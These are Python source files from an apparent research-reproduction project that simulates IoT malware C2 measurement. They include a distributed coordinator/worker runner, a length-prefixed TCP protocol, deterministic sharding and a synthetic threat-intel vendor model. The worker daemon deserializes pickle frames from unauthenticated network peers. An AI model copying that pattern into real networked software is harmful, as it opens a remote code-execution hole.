            })
        except OSError as exc:
            self._lose(peer, f"send failed: {exc}", wave, selector)
            return False
        peer.busy_unit = unit
        peer.dispatched_at = self._clock()
        if warm:
            peer.warm_hits += 1
        wave.running.setdefault(unit, set()).add(peer)
        self.placements.append({
            "unit": unit, "attempt": attempt, "worker": peer.worker_id,
            "warm": warm, "steal": steal,
        })
        return True

    def _maybe_steal(self, wave: _Wave, selector, now: float) -> None:
        if wave.pending:
            return
        idle = [p for p in self._live() if p.busy_unit is None]
        if not idle:
            return
        threshold = self.min_steal_seconds
        if wave.walls:
            threshold = max(self.min_steal_seconds,
                            self.steal_factor * statistics.median(wave.walls))
        stragglers = [
            p for p in self._live()
            if p.busy_unit is not None
            and len(wave.running.get(p.busy_unit, ())) == 1
            and now - p.dispatched_at > threshold
        ]
        stragglers.sort(key=lambda p: now - p.dispatched_at, reverse=True)
        for straggler in stragglers:
            if not idle:
                return
            unit = straggler.busy_unit
            thief = self._choose(idle)
            idle.remove(thief)
            # same attempt as the original dispatch: the unit is a pure
            # function of (seed, scale, config, unit), twins tie safely
            if self._send_task(thief, unit, wave.attempts.get(unit, 0),
                               wave, selector, steal=True):
                self.steals += 1

    # -- reporting ---------------------------------------------------------

    def stats(self) -> dict:
        return {
            "transport": "socket",
            "units": self.spec.shard_count,
            "peers": [p.address for p in self.peers],
            "placements": list(self.placements),
            "steals": self.steals,
            "stolen_wasted": self.stolen_wasted,
            "redispatches": self.redispatches,
            "lost_workers": list(self.lost_workers),
            "per_worker": {
                p.worker_id: {
                    "address": p.address,
                    "units_completed": p.completed,
                    "wall_seconds": round(p.wall, 6),
                    "warm_placements": p.warm_hits,
                }
                for p in self.peers
            },
        }
