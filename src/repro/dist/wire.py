"""Framed message transport for the distributed runner.

Every message on a coordinator↔worker connection is one *frame*: a
4-byte big-endian payload length followed by the payload produced by
:func:`repro.core.cache.pack_entry` — the same self-describing,
sha256-checksummed pickle envelope the study cache uses on disk
(``RPSC`` magic + format version + payload digest + pickle).  Reusing
it buys the wire format the cache's integrity guarantees for free: a
truncated, corrupted, or version-skewed frame never deserializes into a
half-right object, it surfaces as :class:`WireError`.

Message catalogue (all frames are dicts with a ``"type"`` key)::

    hello       coordinator -> worker   {protocol, world}
    hello-ack   worker -> coordinator   {protocol, worker, pid, warm}
    task        coordinator -> worker   {unit, attempt, spec}
    heartbeat   worker -> coordinator   {unit}           (while executing)
    result      worker -> coordinator   {unit, attempt, result, warm, wall}
    failed      worker -> coordinator   {unit, attempt, error}
    shutdown    coordinator -> worker   {}               (close connection)

Two consumption styles: blocking :func:`recv_frame` for the worker's
one-connection-per-thread loop, and the incremental :class:`FrameDecoder`
for the coordinator's ``selectors``-driven event loop, where a single
``recv`` may deliver half a frame or three of them.
"""

from __future__ import annotations

import socket
import struct

from ..core.cache import pack_entry, unpack_entry

__all__ = ["FrameDecoder", "PROTOCOL_VERSION", "WireError",
           "recv_frame", "send_frame"]

#: bumped whenever a message's meaning changes; hello/hello-ack carry it
PROTOCOL_VERSION = 1

#: refuse absurd frame lengths before allocating (a corrupt header would
#: otherwise ask for gigabytes); a smoke-scale ShardResult is ~100 KiB
MAX_FRAME_BYTES = 1 << 30

_HEADER = struct.Struct(">I")


class WireError(RuntimeError):
    """A frame that cannot be trusted: truncation, corruption, overflow,
    or a protocol version this build does not speak."""


def send_frame(sock: socket.socket, message: dict) -> None:
    """Serialize ``message`` and write one length-prefixed frame."""
    blob = pack_entry(message)
    if len(blob) > MAX_FRAME_BYTES:  # pragma: no cover - absurd payload
        raise WireError(f"frame of {len(blob)} bytes exceeds the "
                        f"{MAX_FRAME_BYTES}-byte ceiling")
    sock.sendall(_HEADER.pack(len(blob)) + blob)


def _decode(blob: bytes) -> dict:
    message = unpack_entry(blob, dict)
    if message is None:
        raise WireError("frame failed checksum/format validation")
    return message


def recv_exact(sock: socket.socket, count: int) -> bytes | None:
    """Read exactly ``count`` bytes; ``None`` on clean EOF at a frame
    boundary, :class:`WireError` on EOF mid-read."""
    chunks: list[bytes] = []
    remaining = count
    while remaining:
        chunk = sock.recv(min(remaining, 1 << 16))
        if not chunk:
            if not chunks:
                return None
            raise WireError(
                f"connection closed mid-frame ({count - remaining} of "
                f"{count} bytes read)")
        chunks.append(chunk)
        remaining -= len(chunk)
    return b"".join(chunks)


def recv_frame(sock: socket.socket) -> dict | None:
    """Blocking read of one frame; ``None`` on clean EOF."""
    header = recv_exact(sock, _HEADER.size)
    if header is None:
        return None
    (length,) = _HEADER.unpack(header)
    if not 0 < length <= MAX_FRAME_BYTES:
        raise WireError(f"frame header announces {length} bytes")
    blob = recv_exact(sock, length)
    if blob is None:
        raise WireError("connection closed between header and payload")
    return _decode(blob)


class FrameDecoder:
    """Incremental frame reassembly for non-blocking sockets.

    Feed whatever ``recv`` returned; complete messages come back in
    arrival order, partial frames are buffered until the next feed.
    """

    def __init__(self):
        self._buffer = bytearray()

    def feed(self, data: bytes) -> list[dict]:
        self._buffer.extend(data)
        messages: list[dict] = []
        while True:
            if len(self._buffer) < _HEADER.size:
                return messages
            (length,) = _HEADER.unpack(self._buffer[:_HEADER.size])
            if not 0 < length <= MAX_FRAME_BYTES:
                raise WireError(f"frame header announces {length} bytes")
            end = _HEADER.size + length
            if len(self._buffer) < end:
                return messages
            blob = bytes(self._buffer[_HEADER.size:end])
            del self._buffer[:end]
            messages.append(_decode(blob))
