"""Distributed study execution: transports, coordinator, worker daemon.

The sharded runner (:mod:`repro.core.parallel`) historically topped out
at one host's ``multiprocessing.Pool``.  This package generalizes it
behind a transport abstraction:

``wire.py``
    length-prefixed framed messages over TCP, reusing the checksummed
    ``pack_entry``/``unpack_entry`` encoding from :mod:`repro.core.cache`
``plan.py``
    the fine-grained shard plan — sha256 unit partitioning, world cache
    keys, default unit counts
``transport.py``
    :class:`LocalTransport` (today's pool, zero behavior change) and
    :class:`SocketTransport` (remote workers via the coordinator)
``coordinator.py``
    cache-aware unit placement, adaptive work stealing, heartbeat-based
    lost-worker detection
``worker.py``
    the ``repro worker`` daemon: accepts coordinator connections and
    executes shard units against a warm world cache

The deterministic-merge invariant — serial output byte-identical to any
merged parallel output — is unchanged: units are sha256-partitioned, so
any placement, steal, or re-dispatch schedule merges to the same digest.
"""

from .plan import TaskSpec, default_unit_count, world_key
from .transport import LocalTransport, SocketTransport, Transport
from .wire import WireError, recv_frame, send_frame

__all__ = [
    "LocalTransport",
    "SocketTransport",
    "TaskSpec",
    "Transport",
    "WireError",
    "default_unit_count",
    "recv_frame",
    "send_frame",
    "world_key",
]
