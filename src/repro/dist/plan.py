"""The fine-grained shard plan: units, world keys, and task specs.

A *unit* is one sha256-partition of the sample corpus — the same
partition function the pool runner always used
(:func:`repro.determinism.shard_of`), just cut finer: the coordinator
dispatches ``unit_count`` units (default
:data:`UNITS_PER_WORKER` × workers) so that placement, stealing, and
re-dispatch have something to schedule.  Because every occurrence of a
hash lands in the same unit for a given ``unit_count``, deduplication
stays unit-local and **any** assignment of units to workers merges to
the same digest — the property the distributed runner's correctness
rests on, tested in ``tests/test_dist_plan.py``.

``world_key`` names the generated world a unit needs: workers keep a
small cache of pristine worlds keyed by it, and the coordinator prefers
placing units on workers that already hold the key warm (generating a
world costs ~8× a deepcopy of a cached one at full scale).
"""

from __future__ import annotations

import dataclasses
import hashlib
import json

from ..core.cache import _canon

__all__ = ["TaskSpec", "UNITS_PER_WORKER", "default_unit_count",
           "world_key"]

#: default fan-out granularity: enough units per worker that stealing a
#: straggler's queue is meaningful, few enough that per-unit world setup
#: stays amortized
UNITS_PER_WORKER = 4


def default_unit_count(workers: int,
                       per_worker: int = UNITS_PER_WORKER) -> int:
    """Unit count for a fleet of ``workers``: finer than the fleet so
    fast workers can take over a straggler's backlog."""
    return max(1, workers * per_worker)


def world_key(seed: int, scale) -> str:
    """Stable identity of a generated world, usable as a cache key on
    any host (derived from the canonical form of ``(seed, scale)``, the
    exact inputs world generation is a pure function of)."""
    blob = json.dumps([seed, _canon(scale)], sort_keys=True,
                      separators=(",", ":"))
    return hashlib.sha256(blob.encode()).hexdigest()[:16]


@dataclasses.dataclass(frozen=True)
class TaskSpec:
    """Everything a worker needs to execute any unit of one study.

    One spec is shared by every unit of a run; only ``(unit, attempt)``
    varies per dispatch.  ``config`` is the *base* pipeline config — the
    per-unit shard window is stamped on by :meth:`config_for`.
    """

    seed: int
    scale: object
    config: object
    shard_count: int
    telemetry: bool = False

    def config_for(self, index: int):
        """The base config narrowed to unit ``index`` of ``shard_count``."""
        return dataclasses.replace(self.config, shard_index=index,
                                   shard_count=self.shard_count)

    @property
    def world_key(self) -> str:
        return world_key(self.seed, self.scale)
