"""Transports: how one dispatch wave reaches its executors.

:class:`~repro.core.parallel.ShardedStudyRunner` owns the retry policy
(waves, ``max_redispatch``, failure accounting); a transport owns the
mechanics of one wave: place the units somewhere, harvest
:class:`~repro.core.parallel.ShardResult` objects, report what never
came back.  The contract::

    start_wave(indexes, attempt)   dispatch these units (non-blocking)
    collect_wave(results) -> {unit: error_text}   drain the wave
    finish()                       clean teardown after a failure-free wave
    abort_wave()                   hard teardown of a failed wave
    start_wave(...)                (again, for the retry wave)
    close()                        final cleanup, always called
    stats() -> dict                placement/steal/wall accounting
    redispatches                   transport-internal re-queues (int)

:class:`LocalTransport` is today's ``multiprocessing.Pool`` behavior,
bit-for-bit — fork-inherited world snapshot on the first wave,
``maxtasksperchild=1``, a shared per-wave timeout budget — plus the
satellite fix this PR pins down: a timed-out unit's failure text now
says *whether the worker died or is still running* (a crashed pool
worker exits nonzero and is silently replaced; a hung one stays
alive), and the ``shard_timeout`` deadline is documented and tested as
**per wave**: every retry wave gets a fresh budget, so worst-case wall
time is ``shard_timeout × (1 + max_redispatch)``.

:class:`SocketTransport` hands the wave to a
:class:`~repro.dist.coordinator.Coordinator` over TCP workers.
"""

from __future__ import annotations

import multiprocessing
import time

from ..core import parallel as _parallel
from .coordinator import Coordinator
from .plan import TaskSpec

__all__ = ["LocalTransport", "SocketTransport", "Transport"]


class Transport:
    """Interface; see the module docstring for the wave contract."""

    name = "abstract"
    redispatches = 0

    def start_wave(self, indexes, attempt: int) -> None:
        raise NotImplementedError

    def collect_wave(self, results: dict) -> dict[int, str]:
        raise NotImplementedError

    def finish(self) -> None:
        pass

    def abort_wave(self) -> None:
        pass

    def close(self) -> None:
        pass

    def stats(self) -> dict:
        return {"transport": self.name}


class LocalTransport(Transport):
    """One host's ``multiprocessing.Pool``, today's semantics."""

    name = "local"

    def __init__(self, spec: TaskSpec, workers: int,
                 shard_timeout: float | None = 600.0,
                 fork_world=None):
        self.spec = spec
        self.workers = workers
        self.shard_timeout = shard_timeout
        self._fork_world = fork_world
        self._context = None
        self._pool = None
        self._pending = None
        self._procs: list = []
        self._first_wave = True

    def _task(self, index: int, attempt: int) -> tuple:
        return (self.spec.seed, self.spec.scale,
                self.spec.config_for(index), attempt, self.spec.telemetry)

    def start_wave(self, indexes, attempt: int) -> None:
        indexes = list(indexes)
        if self._pool is not None:
            raise RuntimeError("previous wave not torn down")
        try:
            self._context = multiprocessing.get_context("fork")
            fork_ok = True
        except ValueError:  # pragma: no cover - non-fork platforms
            self._context = multiprocessing.get_context()
            fork_ok = False
        # The fork snapshot is only safe when (a) this is the first wave
        # (the parent's probing campaign mutates the world between start
        # and join) and (b) every pool worker forks *now*: with more
        # units than workers, maxtasksperchild=1 makes the pool respawn
        # workers mid-wave from the already-mutated parent, so
        # fine-grained local waves always regenerate.
        snapshot = None
        if (fork_ok and self._first_wave
                and self.spec.shard_count == self.workers):
            snapshot = self._fork_world
        _parallel._FORK_WORLD = snapshot
        self._pool = self._context.Pool(
            processes=min(self.workers, len(indexes)) or 1,
            maxtasksperchild=1)
        self._pending = {
            index: self._pool.apply_async(_parallel._run_shard,
                                          (self._task(index, attempt),))
            for index in indexes
        }
        self._procs = list(getattr(self._pool, "_pool", None) or [])
        self._pool.close()
        self._first_wave = False

    def collect_wave(self, results: dict) -> dict[int, str]:
        if self._pending is None:
            raise RuntimeError("no wave in flight")
        pending, self._pending = self._pending, None
        return self.collect_pending(pending, results)

    def collect_pending(self, pending: dict, results: dict) -> dict[int, str]:
        """Harvest one wave; returns failures as index -> error text.

        The timeout budget is shared by the wave — and *only* this
        wave: shards run concurrently, so a healthy wave drains in one
        shard's runtime, a lost worker costs one ``shard_timeout``
        (not one per remaining shard), and every re-dispatch wave
        starts a fresh budget.
        """
        deadline = (None if self.shard_timeout is None
                    else time.monotonic() + self.shard_timeout)
        failures: dict[int, str] = {}
        for index in sorted(pending):
            try:
                if deadline is None:
                    results[index] = pending[index].get()
                else:
                    results[index] = pending[index].get(
                        max(0.0, deadline - time.monotonic()))
            except multiprocessing.TimeoutError:
                failures[index] = self._timeout_text(index)
            except Exception as exc:  # worker raised; propagated by get()
                failures[index] = f"{type(exc).__name__}: {exc}"
        return failures

    def _refresh_procs(self) -> None:
        """Track pool workers the pool respawned since dispatch
        (``maxtasksperchild=1`` replaces a worker after every task)."""
        if self._pool is None:
            return
        known = {id(p) for p in self._procs}
        for proc in getattr(self._pool, "_pool", None) or []:
            if id(proc) not in known:
                self._procs.append(proc)

    def _timeout_text(self, index: int) -> str:
        """Crash or hang?  A crashed pool worker exits nonzero (the pool
        silently replaces it and loses its task); a hung one is still
        alive at the deadline."""
        self._refresh_procs()
        crashed = sorted({p.exitcode for p in self._procs
                          if p.exitcode not in (None, 0)})
        if crashed:
            return (f"shard {index}: worker crashed "
                    f"(pool worker exit codes {crashed}); no result within "
                    f"the {self.shard_timeout}s wave deadline")
        return (f"shard {index}: worker hung (pool workers alive); "
                f"no result within the {self.shard_timeout}s wave deadline")

    def finish(self) -> None:
        if self._pool is not None:
            self._pool.join()
            self._pool = None

    def abort_wave(self) -> None:
        # a hung or half-dead wave cannot be drained politely
        if self._pool is not None:
            self._pool.terminate()
            self._pool.join()
            self._pool = None

    def close(self) -> None:
        _parallel._FORK_WORLD = None
        if self._pool is not None:
            self._pool.terminate()
            self._pool.join()
            self._pool = None

    def stats(self) -> dict:
        return {"transport": self.name, "workers": self.workers,
                "units": self.spec.shard_count}


class SocketTransport(Transport):
    """Remote TCP workers behind a :class:`Coordinator`."""

    name = "socket"

    def __init__(self, spec: TaskSpec, peers,
                 shard_timeout: float | None = 600.0, **options):
        self.spec = spec
        self.shard_timeout = shard_timeout
        self.coordinator = Coordinator(peers, spec, **options)
        self._wave = None

    @property
    def redispatches(self) -> int:
        """Units the coordinator re-queued (lost workers, failures) —
        folded into the runner's redispatch counter."""
        return self.coordinator.redispatches

    def start_wave(self, indexes, attempt: int) -> None:
        self._wave = (list(indexes), attempt)

    def collect_wave(self, results: dict) -> dict[int, str]:
        if self._wave is None:
            raise RuntimeError("no wave in flight")
        (indexes, attempt), self._wave = self._wave, None
        return self.coordinator.run(indexes, attempt, results,
                                    timeout=self.shard_timeout)

    def close(self) -> None:
        self.coordinator.close()

    def stats(self) -> dict:
        return self.coordinator.stats()
