"""The ``repro worker`` daemon: executes shard units for a coordinator.

One :class:`WorkerServer` listens on a TCP port and serves any number
of coordinator connections, one thread per connection (the
``cs2620_hw3`` peer-mesh idiom: daemon threads around blocking
sockets, a stop event for shutdown).  Per task it runs
:func:`repro.core.parallel.execute_shard` in an executor thread while
the connection thread keeps heartbeats flowing — so a unit that is
merely slow looks alive to the coordinator, and only a worker that is
truly gone (process killed, network cut) goes silent.

Worlds are the expensive part of a unit (generation dwarfs the
pipeline at small unit sizes), so the daemon keeps a small LRU of
*pristine* generated worlds keyed by
:func:`~repro.dist.plan.world_key` and hands each task a deepcopy —
~8× cheaper than regenerating, and byte-identical because world
generation is a pure function of ``(seed, scale)``.  The cache keys
are reported in every ``hello-ack``/``result`` frame, which is what
lets the coordinator place units cache-aware.

Chaos parity: a fault plan's ``worker_crashes`` draw makes a pool
worker ``os._exit`` with its task lost.  Here the same draw makes the
daemon drop the coordinator's connection without a reply — the daemon
survives (it is one process serving many tasks), but the coordinator
sees exactly what a dead sandbox looks like: EOF, no result.
"""

from __future__ import annotations

import copy
import dataclasses
import os
import socket
import threading
from collections import OrderedDict

from .plan import world_key
from .wire import PROTOCOL_VERSION, WireError, recv_frame, send_frame

__all__ = ["WorkerServer", "WorldCache"]


class WorldCache:
    """Thread-safe LRU of pristine generated worlds."""

    def __init__(self, limit: int = 4):
        if limit < 1:
            raise ValueError("world cache limit must be >= 1")
        self.limit = limit
        self._worlds: OrderedDict[str, object] = OrderedDict()
        self._lock = threading.Lock()
        self.hits = 0
        self.misses = 0

    def lease(self, seed: int, scale):
        """A private, mutable copy of the world for ``(seed, scale)``."""
        key = world_key(seed, scale)
        with self._lock:
            pristine = self._worlds.get(key)
            if pristine is not None:
                self._worlds.move_to_end(key)
                self.hits += 1
        if pristine is None:
            from ..world import generate_world

            pristine = generate_world(seed=seed, scale=scale)
            with self._lock:
                self.misses += 1
                self._worlds[key] = pristine
                while len(self._worlds) > self.limit:
                    self._worlds.popitem(last=False)
        # the cached original is never mutated, only its copies are —
        # a deepcopy of a pristine world == a regenerated one
        return copy.deepcopy(pristine)

    def keys(self) -> list[str]:
        with self._lock:
            return list(self._worlds)


class _ChaosDrop(Exception):
    """Internal: this task's chaos draw says 'die'; drop the connection."""


class WorkerServer:
    """Accept loop + per-connection task execution."""

    def __init__(self, host: str = "127.0.0.1", port: int = 0, *,
                 heartbeat_interval: float = 0.5,
                 world_cache_limit: int = 4):
        self._listener = socket.create_server((host, port))
        self.host, self.port = self._listener.getsockname()[:2]
        self.worker_id = f"{self.host}:{self.port}"
        self.heartbeat_interval = heartbeat_interval
        self.worlds = WorldCache(world_cache_limit)
        self.tasks_run = 0
        self._stop = threading.Event()
        self._accept_thread: threading.Thread | None = None

    # -- lifecycle ---------------------------------------------------------

    def serve_forever(self) -> None:
        """Blocking accept loop; returns after :meth:`shutdown`."""
        self._listener.settimeout(0.5)
        while not self._stop.is_set():
            try:
                conn, _addr = self._listener.accept()
            except socket.timeout:
                continue
            except OSError:      # listener closed under us
                break
            threading.Thread(target=self._serve_client, args=(conn,),
                             daemon=True).start()
        self._listener.close()

    def start(self) -> "WorkerServer":
        """Run the accept loop in a daemon thread (tests, embedding)."""
        if self._accept_thread is not None:
            raise RuntimeError("worker already started")
        self._accept_thread = threading.Thread(target=self.serve_forever,
                                               daemon=True)
        self._accept_thread.start()
        return self

    def shutdown(self) -> None:
        self._stop.set()
        if self._accept_thread is not None:
            self._accept_thread.join(timeout=5.0)

    # -- per-connection protocol -------------------------------------------

    def _serve_client(self, conn: socket.socket) -> None:
        try:
            while not self._stop.is_set():
                try:
                    message = recv_frame(conn)
                except WireError:
                    return
                if message is None or message.get("type") == "shutdown":
                    return
                kind = message.get("type")
                if kind == "hello":
                    if message.get("protocol") != PROTOCOL_VERSION:
                        return
                    send_frame(conn, {
                        "type": "hello-ack",
                        "protocol": PROTOCOL_VERSION,
                        "worker": self.worker_id,
                        "pid": os.getpid(),
                        "warm": self.worlds.keys(),
                    })
                elif kind == "task":
                    self._run_task(conn, message)
        except _ChaosDrop:
            pass                  # die like a sandbox host: EOF, no reply
        except OSError:
            pass                  # coordinator went away mid-send
        finally:
            conn.close()

    def _run_task(self, conn: socket.socket, message: dict) -> None:
        from ..core.parallel import execute_shard
        from ..netsim.faults import WorkerCrash

        unit = message["unit"]
        attempt = message["attempt"]
        spec = message["spec"]
        config = dataclasses.replace(spec["config"], shard_index=unit,
                                     shard_count=spec["unit_count"])
        box: dict = {}

        def execute():
            try:
                world = self.worlds.lease(spec["seed"], spec["scale"])
                box["result"] = execute_shard(
                    spec["seed"], spec["scale"], config, attempt,
                    spec["telemetry"], world=world, chaos="raise")
            except WorkerCrash:
                box["crash"] = True
            except BaseException as exc:  # ship the failure, stay alive
                box["error"] = f"{type(exc).__name__}: {exc}"

        thread = threading.Thread(target=execute, daemon=True)
        thread.start()
        while thread.is_alive():
            thread.join(self.heartbeat_interval)
            if thread.is_alive():
                send_frame(conn, {"type": "heartbeat", "unit": unit})
        self.tasks_run += 1
        if "crash" in box:
            raise _ChaosDrop
        if "error" in box:
            send_frame(conn, {"type": "failed", "unit": unit,
                              "attempt": attempt, "error": box["error"]})
            return
        result = box["result"]
        send_frame(conn, {"type": "result", "unit": unit,
                          "attempt": attempt, "result": result,
                          "warm": self.worlds.keys(),
                          "wall": result.wall_seconds})
