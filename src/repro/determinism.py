"""Stable seed derivation for order-independent randomness.

The sharded study runner requires every per-sample random draw to be a
pure function of ``(world seed, sample identity)`` — never of how many
samples some other sandbox analyzed first.  Python's builtin ``hash`` is
salted per process and ``random.Random`` streams encode consumption
order, so both are unusable as cross-process determinism primitives.
Everything here goes through SHA-256, which is stable across processes,
platforms, and Python versions.
"""

from __future__ import annotations

import hashlib

__all__ = ["stable_seed", "stable_unit", "shard_of"]


def _digest(parts: tuple) -> bytes:
    return hashlib.sha256("|".join(str(p) for p in parts).encode()).digest()


def stable_seed(*parts) -> int:
    """A 64-bit RNG seed derived only from ``parts``.

    ``random.Random(stable_seed("sandbox", world_seed, sha256))`` yields
    the same stream in every process that derives it, regardless of what
    ran before — the property the serial-vs-sharded equivalence rests on.
    """
    return int.from_bytes(_digest(parts)[:8], "big")


def stable_unit(*parts) -> float:
    """A uniform [0, 1) draw derived only from ``parts``."""
    return int.from_bytes(_digest(parts)[:8], "big") / 2**64


def shard_of(sha256: str, shard_count: int) -> int:
    """The shard owning a sample hash.

    Partitioning by sha256 makes cross-shard dedup structural: every
    occurrence of a binary, on any study day, lands in the same shard,
    so each worker's ``seen_hashes`` set is a complete dedup record for
    the hashes it can ever see.
    """
    if shard_count <= 1:
        return 0
    return int(sha256[:16], 16) % shard_count
