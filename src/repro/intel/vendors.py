"""Threat-intelligence vendor feeds behind the VirusTotal API.

The paper measures 89 vendor feeds (Appendix D): only 44 ever flag an IoT
C2, the top vendors flag ~80% of a 1000-C2 reference set (Table 7), yet
25% of known C2s are reported by just one or two feeds (Figure 7), and on
the day a binary surfaces 15.3% of its C2s are flagged by *nobody*
(Table 3) — mostly a timeliness failure, since re-querying months later
drops the miss to 3.3%.

The model that reproduces all four facts at once:

* each C2 endpoint has a latent **obscurity** ``u`` (0 = famous, 1+ =
  unknown); DNS-named C2s are systematically more obscure (Table 3's
  DNS column);
* vendor ``v`` *eventually* flags the endpoint iff ``u + noise(v, ioc) <=
  threshold(v)`` — per-vendor thresholds come from Table 7, the noise term
  de-correlates vendors so low-count C2s exist;
* detection *time* is the endpoint's first public appearance plus a
  shared **publicity delay** (per-endpoint, how long until word gets out)
  plus a small per-vendor lag.

All draws are deterministic hashes of (vendor, ioc), so a feed gives the
same answer no matter when or how often it is queried.
"""

from __future__ import annotations

import hashlib
import math
from dataclasses import dataclass

#: Table 7's top-20 vendors and their detections per 1000 reference C2s.
TABLE7_VENDORS: tuple[tuple[str, int], ...] = (
    ("0xSI_f33d", 799),
    ("SafeToOpen", 799),
    ("AutoShun", 799),
    ("Lumu", 799),
    ("Cyan", 799),
    ("Kaspersky", 798),
    ("PhishLabs", 798),
    ("StopBadware", 798),
    ("NotMining", 798),
    ("Netcraft", 746),
    ("Forcepoint ThreatSeeker", 745),
    ("CRDF", 728),
    ("Comodo Valkyrie Verdict", 697),
    ("Webroot", 683),
    ("Fortinet", 681),
    ("CMC Threat Intelligence", 578),
    ("Avira", 568),
    ("G-Data", 324),
    ("CyRadar", 387),
    ("ESTsecurity", 301),
)

TOTAL_VENDORS = 89
ACTIVE_VENDORS = 44  # vendors that ever flag an IoT C2 (Appendix D)

#: Noise scale de-correlating vendors around their thresholds.
NOISE_SCALE = 0.16


@dataclass(frozen=True)
class Vendor:
    """One TI feed: a name and a detection threshold in obscurity space."""

    name: str
    threshold: float
    #: mean extra lag (days) this vendor adds after an IoC becomes public
    lag_days: float


def build_vendor_directory() -> list[Vendor]:
    """The 89 vendors: Table 7's top 20, a mid tail, and 45 silent feeds."""
    vendors: list[Vendor] = []
    for index, (name, per_1000) in enumerate(TABLE7_VENDORS):
        vendors.append(Vendor(name, per_1000 / 1000.0, lag_days=0.08 + 0.015 * index))
    # 24 further active-but-weak feeds, thresholds tapering off.
    for index in range(ACTIVE_VENDORS - len(TABLE7_VENDORS)):
        threshold = 0.28 * (1.0 - index / 30.0)
        vendors.append(
            Vendor(f"MidFeed-{index:02d}", max(0.02, threshold), lag_days=0.5)
        )
    # 45 feeds that never flag an IoT C2.
    for index in range(TOTAL_VENDORS - len(vendors)):
        vendors.append(Vendor(f"SilentFeed-{index:02d}", 0.0, lag_days=30.0))
    return vendors


def _unit_hash(*parts: str) -> float:
    """Deterministic U(0,1) from string parts."""
    digest = hashlib.sha256("\x1f".join(parts).encode()).digest()
    return int.from_bytes(digest[:8], "big") / 2**64


def _gauss_hash(*parts: str) -> float:
    """Deterministic standard normal via Box-Muller on two hash draws."""
    u1 = max(_unit_hash(*parts, "u1"), 1e-12)
    u2 = _unit_hash(*parts, "u2")
    return math.sqrt(-2.0 * math.log(u1)) * math.cos(2.0 * math.pi * u2)


@dataclass
class IocIntel:
    """Ground-truth intel attributes of one C2 endpoint."""

    ioc: str                  # dotted IP or domain name
    first_public: float       # unix time the endpoint first surfaced
    obscurity: float          # latent u (DNS endpoints get larger values)
    publicity_delay_days: float  # shared lag before feeds can know it


class VendorDirectory:
    """Evaluates which vendors flag which IoC at a given time.

    All per-(vendor, ioc) draws are deterministic hashes, and
    :class:`IocIntel` is immutable per IoC for the lifetime of a study —
    so the 89-vendor sweep is computed exactly once per IoC and every
    later query (``flags_at`` per liveness check, ``eventual_flaggers``
    per Table 7 row, the re-query measurement of Table 3) is a lookup
    over the memoized per-IoC detection-time table.
    """

    def __init__(self) -> None:
        self.vendors = build_vendor_directory()
        self._by_name = {vendor.name: vendor for vendor in self.vendors}
        #: per-IoC memo: intel attributes -> {vendor name: detection unix
        #: time or None} in directory order
        self._tables: dict[tuple, dict[str, float | None]] = {}
        #: per-IoC earliest detection time across all vendors (None if
        #: no vendor ever flags) — the ``is_malicious`` fast path
        self._earliest: dict[tuple, float | None] = {}

    @staticmethod
    def _eventually_flags(vendor: Vendor, intel: IocIntel) -> bool:
        if vendor.threshold <= 0.0:
            return False
        noise = NOISE_SCALE * _gauss_hash(vendor.name, intel.ioc, "flag")
        return intel.obscurity + noise <= vendor.threshold

    def _detection_time(self, vendor: Vendor, intel: IocIntel) -> float | None:
        if not self._eventually_flags(vendor, intel):
            return None
        jitter = vendor.lag_days * _unit_hash(vendor.name, intel.ioc, "lag")
        delay_days = intel.publicity_delay_days + jitter
        return intel.first_public + delay_days * 86400.0

    @staticmethod
    def _key(intel: IocIntel) -> tuple:
        return (intel.ioc, intel.first_public, intel.obscurity,
                intel.publicity_delay_days)

    def _table(self, intel: IocIntel) -> dict[str, float | None]:
        key = self._key(intel)
        table = self._tables.get(key)
        if table is None:
            table = {vendor.name: self._detection_time(vendor, intel)
                     for vendor in self.vendors}
            self._tables[key] = table
            times = [when for when in table.values() if when is not None]
            self._earliest[key] = min(times) if times else None
        return table

    def eventually_flags(self, vendor: Vendor, intel: IocIntel) -> bool:
        return self.detection_time(vendor, intel) is not None

    def detection_time(self, vendor: Vendor, intel: IocIntel) -> float | None:
        """Unix time the vendor's feed starts flagging the IoC, or None."""
        if self._by_name.get(vendor.name) == vendor:
            return self._table(intel)[vendor.name]
        # a vendor not in this directory: fall back to the direct hashes
        return self._detection_time(vendor, intel)

    def flags_at(self, intel: IocIntel, query_time: float) -> list[str]:
        """Vendor names whose feeds flag the IoC at ``query_time``."""
        return [
            name for name, when in self._table(intel).items()
            if when is not None and when <= query_time
        ]

    def flags_any_at(self, intel: IocIntel, query_time: float) -> bool:
        """True if at least one vendor flags the IoC at ``query_time``."""
        self._table(intel)
        earliest = self._earliest[self._key(intel)]
        return earliest is not None and earliest <= query_time

    def eventual_flaggers(self, intel: IocIntel) -> list[str]:
        return [name for name, when in self._table(intel).items()
                if when is not None]
