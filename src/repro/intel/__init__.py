"""External knowledge bases: AS database, TI vendors, vulnerability DBs."""

from .asdb import AsDatabase, AsRecord, CLOUD_ASES, TOP_C2_ASES, VICTIM_ASES, top10_table
from .vendors import (
    ACTIVE_VENDORS,
    IocIntel,
    TABLE7_VENDORS,
    TOTAL_VENDORS,
    Vendor,
    VendorDirectory,
    build_vendor_directory,
)
from .vuldb import Remediation, VulnDatabase, VulnDbEntry, build_entries

__all__ = [
    "ACTIVE_VENDORS",
    "AsDatabase",
    "AsRecord",
    "CLOUD_ASES",
    "IocIntel",
    "Remediation",
    "TABLE7_VENDORS",
    "TOP_C2_ASES",
    "TOTAL_VENDORS",
    "VICTIM_ASES",
    "Vendor",
    "VendorDirectory",
    "VulnDatabase",
    "VulnDbEntry",
    "build_entries",
    "build_vendor_directory",
    "top10_table",
]
