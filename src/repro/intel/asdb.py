"""Autonomous-system database for the virtual Internet.

Seeds the ten C2-heavy ASes of paper Table 2 (with their real ASNs,
countries, hosting/anti-DDoS/crypto attributes), the large cloud ASes from
Appendix A (Google, Amazon, Alibaba), victim-side ASes for the DDoS
analysis (ISPs, hosting providers, gaming-specialized networks, Roblox),
and a synthetic tail so that the full D-C2s dataset spans ~128 ASes
(Appendix A / Figure 13).

Every AS owns one or more /16 prefixes carved from documentation-free
public space, so :meth:`AsDatabase.lookup` can map any simulated address
back to its AS — the join behind Figures 1, 12, 13 and Table 2.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from ..netsim.addresses import AddressAllocator, Subnet


@dataclass(frozen=True)
class AsRecord:
    """One autonomous system."""

    asn: int
    name: str
    country: str
    #: coarse type used by the victim analysis (Figure 12)
    kind: str  # "hosting" | "isp" | "business"
    is_hosting: bool = False
    anti_ddos: bool | None = None
    accepts_crypto: bool = False
